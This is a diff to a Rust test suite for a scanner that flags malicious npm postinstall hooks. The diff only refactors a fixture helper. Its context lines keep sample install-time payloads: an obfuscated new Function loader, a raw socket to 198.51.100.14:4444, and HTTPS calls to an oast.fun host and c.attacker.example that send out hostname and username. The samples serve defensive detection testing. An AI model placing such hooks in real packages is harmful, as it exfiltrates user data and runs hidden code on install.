@@ -10,16 +10,6 @@ use common::Fixture;
 use dsca_model::Severity;
 use serde_json::json;
 
-fn with_postinstall(hook: &str, files: &[(&str, &str)]) -> Fixture {
-    let mut fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
-        "main": "index.js", "scripts": {"postinstall": hook}}))
-    .file("index.js", b"module.exports = 1;\n");
-    for (path, text) in files {
-        fixture = fixture.file(path, text.as_bytes());
-    }
-    fixture
-}
-
 fn with_main(files: &[(&str, &str)]) -> Fixture {
     let mut fixture =
         Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}));
@@ -52,7 +42,7 @@ run();
 
 #[test]
 fn an_awaited_download_written_to_tmp_and_run_at_install_is_high() {
-    let fixture = with_postinstall("node setup.mjs", &[("setup.mjs", AWAIT_DROPPER)]);
+    let fixture = Fixture::with_postinstall("node setup.mjs", &[("setup.mjs", AWAIT_DROPPER)]);
     assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::High));
 }
 
@@ -71,7 +61,7 @@ async function install() {
 }
 install();
 "#;
-    let fixture = with_postinstall("node install.js", &[("install.js", installer)]);
+    let fixture = Fixture::with_postinstall("node install.js", &[("install.js", installer)]);
     assert!(strongest(&fixture, "DSCA802") <= Some(Severity::Medium));
 }
 
@@ -105,7 +95,7 @@ function _u(b, k) {
 const f = new Function('require', _u('AAECAwQF', _k));
 f(require);
 "#;
-    let fixture = with_postinstall("node index.js", &[("index.js", code)]);
+    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
     assert_eq!(strongest(&fixture, "DSCA803"), Some(Severity::Critical));
 }
 
@@ -178,7 +168,7 @@ spawn(process.execPath, [path.join(__dirname, 'payload.js')], { detached: true, 
 const s = new net.Socket();
 s.connect(4444, '198.51.100.14', () => s.write(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, i: os.networkInterfaces() })));
 "#;
-    let fixture = with_postinstall(
+    let fixture = Fixture::with_postinstall(
         "node lib/install.js",
         &[("lib/install.js", starter), ("lib/payload.js", payload)],
     );
@@ -194,7 +184,7 @@ const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: pr
 const req = https.request({ hostname: 'x7kq2m9d.oast.fun', path: '/', method: 'POST' });
 req.write(data); req.end();
 "#;
-    let fixture = with_postinstall("node index.js", &[("index.js", code)]);
+    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
     assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
     assert!(strongest(&fixture, "DSCA806") >= Some(Severity::Medium));
 }
@@ -205,7 +195,7 @@ fn an_installer_choosing_a_binary_by_platform_sends_no_fingerprint() {
 const url = `https://downloads.vendor.example/v1/demo-${os.platform()}-${os.arch()}.tgz`;
 https.get(url, (res) => res.pipe(require('fs').createWriteStream('demo.tgz')));
 "#;
-    let fixture = with_postinstall("node index.js", &[("index.js", code)]);
+    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
     assert_eq!(strongest(&fixture, "DSCA801"), None);
 }
 
@@ -214,7 +204,7 @@ fn files_loaded_by_inline_node_code_of_a_hook_run_at_install() {
     let code = r#"const https = require('https'); const os = require('os');
 https.get('https://c.attacker.example/?h=' + os.hostname() + '&u=' + os.userInfo().username);
 "#;
-    let fixture = with_postinstall(
+    let fixture = Fixture::with_postinstall(
         "node -e \"require('./lib/check')\"",
         &[("lib/check.js", code)],
     );
